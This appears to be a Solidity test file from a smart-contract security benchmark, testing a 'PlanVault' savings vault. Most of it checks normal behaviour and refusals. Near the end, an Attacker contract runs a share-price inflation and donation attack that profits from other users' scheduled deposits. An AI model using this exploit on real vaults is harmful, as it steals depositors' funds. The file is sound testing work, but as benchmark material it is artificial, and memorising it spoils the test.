// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./PlanVault.sol";

// assay-canary-8d7f90fb-2c17-429f-8fb0-e6fe852ab6c2

interface Vm {
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20 {
    address private immutable _minter = msg.sender;
    uint256 private _tax;

    constructor() ERC20("Coin", "COIN") {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == _minter);
        _mint(to, amount);
    }

    function setTax(uint256 tax) external {
        require(msg.sender == _minter);
        _tax = tax;
    }

    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        super.transferFrom(from, to, amount);
        _burn(to, _tax);
        return true;
    }
}

/// Keeps assets, and a part of what is withdrawn where told to.
contract Lending is IStrategy {
    address private immutable _keeper = msg.sender;
    IERC20 private immutable _coin;
    uint256 private _short;
    mapping(address => uint256) public managedFor;

    constructor(IERC20 coin) {
        _coin = coin;
    }

    function setShort(uint256 short) external {
        require(msg.sender == _keeper);
        _short = short;
    }

    function deposit(uint256 amount) external {
        _coin.transferFrom(msg.sender, address(this), amount);
        managedFor[msg.sender] += amount;
    }

    function withdraw(uint256 amount) external {
        managedFor[msg.sender] -= amount;
        _coin.transfer(msg.sender, amount - _short);
    }
}

/// Tries calls from within another, as a token that calls back.
contract Hook is Coin {
    address private _at;
    bytes[] private _calls;
    bool private _armed;
    bool public tried;

    function aim(address at, bytes[] memory calls) external {
        _at = at;
        _calls = calls;
    }

    /// Makes a call that calls back.
    function begin(bytes calldata call_) external {
        _armed = true;
        (bool done, ) = _at.call(call_);
        require(done && !_armed, "not begun");
    }

    /// Makes all calls, none from within another.
    function each() external {
        for (uint256 i = 0; i < _calls.length; i++) {
            (bool done, ) = _at.call(_calls[i]);
            require(done, "refused without the lock");
        }
    }

    function _update(address from, address to, uint256 amount) internal override {
        super._update(from, to, amount);
        if (!_armed) return;
        _armed = false;
        for (uint256 i = 0; i < _calls.length; i++) {
            (bool done, bytes memory answer) = _at.call(_calls[i]);
            require(!done && bytes4(answer) == ReentrancyGuard.ReentrancyGuardReentrantCall.selector, "not locked");
        }
        tried = true;
    }
}

contract Helper {
    function leave(PlanVault vault, address to) external {
        vault.redeem(vault.balanceOf(address(this)), to, address(this), 0);
    }
}

contract Attacker {
    PlanVault private vault;
    Coin private coin;

    constructor(PlanVault vault_, Coin coin_) {
        vault = vault_;
        coin = coin_;
    }

    function run(address first, address second) external {
        uint256 least = vault.MINIMUM_SUPPLY();
        coin.approve(address(vault), least);
        vault.deposit(least, address(this), 0);
        Helper helper = new Helper();
        vault.transfer(address(helper), 1);
        vault.redeem(least - 1, address(this), address(this), 0);
        coin.transfer(address(vault), 50 ether);
        vault.runPlan(first);
        vault.runPlan(second);
        helper.leave(vault, address(this));
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant OWNER = address(0x09E);
    address private constant MANAGER = address(0x3A);
    address private constant TREASURY = address(0x73);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_700_000_000;

    Coin public coin;
    Coin private other;
    Lending private lending;
    PlanVault private vault;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        coin = new Coin();
        other = new Coin();
        lending = new Lending(coin);
        vault = new PlanVault(coin, lending, OWNER, MANAGER, TREASURY, 50);
        join(ANA);
        join(BEN);
        mallory = new Attacker(vault, coin);
        coin.mint(address(mallory), 60 ether);
    }

    function join(address who) private {
        coin.mint(who, 2_000 ether);
        vm.startPrank(who);
        coin.approve(address(vault), type(uint256).max);
        vault.setPlan(100 ether, 30 days, 12);
        vm.stopPrank();
    }

    function test_Regular() public {
        require(vault.isDue(ANA) && vault.runPlan(ANA) == 100 ether && vault.balanceOf(ANA) == 100 ether, "planned");
        require(!vault.isDue(ANA) && !vault.isDue(TREASURY), "not due");
        vm.prank(OWNER);
        vault.setBuffer(1_000);
        coin.mint(address(vault), 20 ether);
        require(vault.convertToAssets(1 ether) == 1.2 ether && vault.convertToShares(6 ether) == 5 ether, "price");
        vm.prank(BEN);
        vault.deposit(240 ether, BEN, 200 ether);
        vm.prank(BEN);
        vault.cancelPlan();
        vm.prank(MANAGER);
        vault.invest(300 ether);
        require(vault.totalAssets() == 360 ether && coin.balanceOf(address(vault)) == 60 ether, "invested");
        vm.prank(BEN);
        vault.redeem(100 ether, BEN, BEN, 119.4 ether);
        require(coin.balanceOf(BEN) == 1_879.4 ether && coin.balanceOf(TREASURY) == 0.6 ether, "redeemed");
        require(lending.managedFor(address(vault)) == 240 ether, "taken back");
        vm.prank(MANAGER);
        vault.divest(40 ether);
        vm.warp(START + 30 days);
        address[] memory accounts = new address[](1);
        accounts[0] = ANA;
        vault.runPlans(accounts);
        (, , uint64 next, uint32 left) = vault.planOf(ANA);
        require(next == START + 60 days && left == 10, "another month");
        uint256 shares = vault.balanceOf(ANA);
        require(shares > 183.33 ether && shares < 183.34 ether, "shares");
        vm.startPrank(ANA);
        vault.transfer(BEN, 1 ether);
        vault.approve(BEN, 11 ether);
        vm.stopPrank();
        vm.startPrank(BEN);
        vault.transferFrom(ANA, BEN, 1 ether);
        vault.redeem(10 ether, BEN, ANA, 0);
        require(vault.allowance(ANA, BEN) == 0 && vault.balanceOf(BEN) == 102 ether, "approved");
        vault.redeem(102 ether, BEN, BEN, 0);
        vm.stopPrank();
        shares = vault.balanceOf(ANA);
        vm.prank(ANA);
        vault.redeem(shares, ANA, ANA, 0);
        require(vault.totalSupply() == 0 && vault.totalAssets() == 0, "all gone");
        owners();
    }

    function owners() private {
        other.mint(address(vault), 3);
        vm.startPrank(OWNER);
        vault.rescue(other, BEN);
        vault.pause();
        vault.unpause();
        vault.setExitFee(100);
        vault.setTreasury(BEN);
        vault.setManager(ANA);
        vault.transferOwnership(ANA);
        vm.stopPrank();
        vm.startPrank(ANA);
        vault.acceptOwnership();
        vault.renounceOwnership();
        vm.stopPrank();
        require(other.balanceOf(BEN) == 3 && vault.treasury() == BEN && vault.manager() == ANA, "owners");
    }

    function test_RefusesSetups() public {
        vm.expectRevert(IPlanVault.ZeroAddress.selector);
        new PlanVault(IERC20(address(0)), lending, OWNER, MANAGER, TREASURY, 0);
        vm.expectRevert(IPlanVault.ZeroAddress.selector);
        new PlanVault(coin, IStrategy(address(0)), OWNER, MANAGER, TREASURY, 0);
        vm.expectRevert(IPlanVault.ZeroAddress.selector);
        new PlanVault(coin, lending, OWNER, MANAGER, address(0), 0);
        vm.expectRevert(abi.encodeWithSelector(IPlanVault.FeeTooHigh.selector, 101));
        new PlanVault(coin, lending, OWNER, MANAGER, TREASURY, 101);
        vm.startPrank(OWNER);
        vm.expectRevert(IPlanVault.ZeroAddress.selector);
        vault.setTreasury(address(0));
        vm.expectRevert(abi.encodeWithSelector(IPlanVault.FeeTooHigh.selector, 101));
        vault.setExitFee(101);
        vm.expectRevert(abi.encodeWithSelector(IPlanVault.BufferTooHigh.selector, 5_001));
        vault.setBuffer(5_001);
        vault.setBuffer(5_000);
        vm.expectRevert(IPlanVault.AssetNotRescuable.selector);
        vault.rescue(coin, OWNER);
        vm.expectRevert(abi.encodeWithSelector(IPlanVault.NotManager.selector, OWNER));
        vault.invest(0);
        vm.expectRevert(abi.encodeWithSelector(IPlanVault.NotManager.selector, OWNER));
        vault.divest(0);
        vm.stopPrank();
    }

    function test_RefusesDeposits() public {
        vm.startPrank(BEN);
        vm.expectRevert(abi.encodeWithSelector(IPlanVault.NoShares.selector, 0));
        vault.deposit(0, BEN, 0);
        vm.expectRevert(abi.encodeWithSelector(IPlanVault.FirstDepositTooSmall.selector, 999_999, 1_000_000));
        vault.deposit(999_999, BEN, 0);
        vm.expectRevert(abi.encodeWithSelector(IPlanVault.TooFewShares.selector, 1 ether, 1 ether + 1));
        vault.deposit(1 ether, BEN, 1 ether + 1);
        vault.deposit(1_000_000, BEN, 0);
        vm.stopPrank();
        coin.mint(address(vault), 1_000_000);
        vm.prank(BEN);
        vm.expectRevert(abi.encodeWithSelector(IPlanVault.NoShares.selector, 1));
        vault.deposit(1, BEN, 0);
        vm.prank(BEN);
        vault.deposit(2, BEN, 1);
        coin.setTax(1);
        vm.prank(BEN);
        vm.expectRevert(abi.encodeWithSelector(IPlanVault.TransferShort.selector, 9, 10));
        vault.deposit(10, BEN, 0);
        vm.prank(OWNER);
        vault.pause();
        vm.expectRevert(Pausable.EnforcedPause.selector);
        vault.deposit(10, BEN, 0);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        vault.runPlan(ANA);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        vault.runPlans(new address[](0));
    }

    function test_RefusesPlans() public {
        vm.startPrank(BEN);
        vm.expectRevert(abi.encodeWithSelector(IPlanVault.BadPlan.selector, 999_999, 1 days, 1));
        vault.setPlan(999_999, 1 days, 1);
        vm.expectRevert(abi.encodeWithSelector(IPlanVault.BadPlan.selector, 1_000_000, 1 days - 1, 1));
        vault.setPlan(1_000_000, 1 days - 1, 1);
        vm.expectRevert(abi.encodeWithSelector(IPlanVault.BadPlan.selector, 1_000_000, 90 days + 1, 1));
        vault.setPlan(1_000_000, 90 days + 1, 1);
        vm.expectRevert(abi.encodeWithSelector(IPlanVault.BadPlan.selector, 1_000_000, 1 days, 61));
        vault.setPlan(1_000_000, 1 days, 61);
        vault.cancelPlan();
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(IPlanVault.NoPlan.selector, BEN));
        vault.runPlan(BEN);
        vault.runPlan(ANA);
        vm.warp(START + 30 days - 1);
        vm.expectRevert(abi.encodeWithSelector(IPlanVault.NotDue.selector, START + 30 days));
        vault.runPlan(ANA);
    }

    function test_RefusesRedemptions() public {
        vault.runPlan(ANA);
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(IPlanVault.TooFewAssets.selector, 9.95 ether, 10 ether));
        vault.redeem(10 ether, ANA, ANA, 10 ether);
        vm.expectRevert(abi.encodeWithSelector(IPlanVault.SupplyTooLow.selector, 1, 1_000_000));
        vault.redeem(100 ether - 1, ANA, ANA, 0);
        vault.redeem(50 ether - 1_000_000, ANA, ANA, 0);
        vault.redeem(50 ether, ANA, ANA, 0);
        vault.redeem(1_000_000, ANA, ANA, 0);
        vm.stopPrank();
        vault.runPlan(BEN);
        vm.prank(OWNER);
        vault.setBuffer(1);
        vm.prank(MANAGER);
        vm.expectRevert(abi.encodeWithSelector(IPlanVault.BufferTooLow.selector, 0.01 ether - 1, 0.01 ether));
        vault.invest(99.99 ether + 1);
        vm.prank(OWNER);
        vault.setBuffer(0);
        vm.prank(MANAGER);
        vault.invest(100 ether);
        vm.prank(ANA);
        vm.expectRevert();
        vault.redeem(1, ANA, BEN, 0);
        lending.setShort(1);
        vm.prank(BEN);
        vm.expectRevert(abi.encodeWithSelector(IPlanVault.StrategyShort.selector, 50 ether - 1, 50 ether));
        vault.redeem(50 ether, BEN, BEN, 0);
    }

    function test_RefusesReentry() public {
        Hook hook = new Hook();
        lending = new Lending(hook);
        vault = new PlanVault(hook, lending, OWNER, address(hook), TREASURY, 50);
        hook.mint(address(hook), 100 ether);
        hook.mint(ANA, 100 ether);
        vm.startPrank(ANA);
        hook.approve(address(vault), 100 ether);
        vault.setPlan(1 ether, 1 days, 1);
        vm.stopPrank();
        vm.startPrank(address(hook));
        hook.approve(address(vault), 100 ether);
        vault.setPlan(1 ether, 1 days, 1);
        vault.deposit(50 ether, address(hook), 0);
        vault.invest(10 ether);
        vm.stopPrank();
        address[] memory accounts = new address[](1);
        accounts[0] = ANA;
        bytes[] memory calls = new bytes[](6);
        calls[0] = abi.encodeCall(vault.deposit, (1 ether, address(hook), 0));
        calls[1] = abi.encodeCall(vault.redeem, (1 ether, address(hook), address(hook), 0));
        calls[2] = abi.encodeCall(vault.invest, (1 ether));
        calls[3] = abi.encodeCall(vault.divest, (1 ether));
        calls[4] = abi.encodeCall(vault.runPlan, (address(hook)));
        calls[5] = abi.encodeCall(vault.runPlans, (accounts));
        hook.aim(address(vault), calls);
        hook.begin(calls[1]);
        require(hook.tried(), "not called back");
        hook.each();
    }

    function test_RefusesStrangers() public {
        vm.startPrank(BEN);
        vm.expectRevert();
        vault.pause();
        vm.expectRevert();
        vault.setExitFee(1);
        vm.expectRevert();
        vault.setTreasury(BEN);
        vm.expectRevert();
        vault.setBuffer(1);
        vm.expectRevert();
        vault.setManager(BEN);
        vm.expectRevert();
        vault.rescue(other, BEN);
        vm.stopPrank();
        vm.prank(OWNER);
        vault.pause();
        vm.prank(BEN);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BEN));
        vault.unpause();
    }

    function exploit() public {
        mallory.run(ANA, BEN);
    }

    function test_Exploit() public {
        exploit();
        require(coin.balanceOf(address(mallory)) >= 60 ether + 30 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
